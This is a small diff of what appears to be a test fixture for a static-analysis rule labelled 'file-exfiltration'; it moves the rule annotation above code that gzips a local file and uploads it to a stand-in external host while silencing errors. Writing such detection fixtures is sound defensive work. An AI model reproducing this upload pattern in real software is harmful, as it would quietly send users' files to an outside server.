@@ -6,8 +6,8 @@ import { createGzip } from "node:zlib";
 export function keep(file) {
   const upload = request({ hostname: "store.marshpoint.example", path: "/packed", method: "PUT" });
   upload.on("error", () => {});
+  // ruleid: file-exfiltration
   createReadStream(file)
     .pipe(createGzip())
-    // ruleid: file-exfiltration
     .pipe(upload);
 }
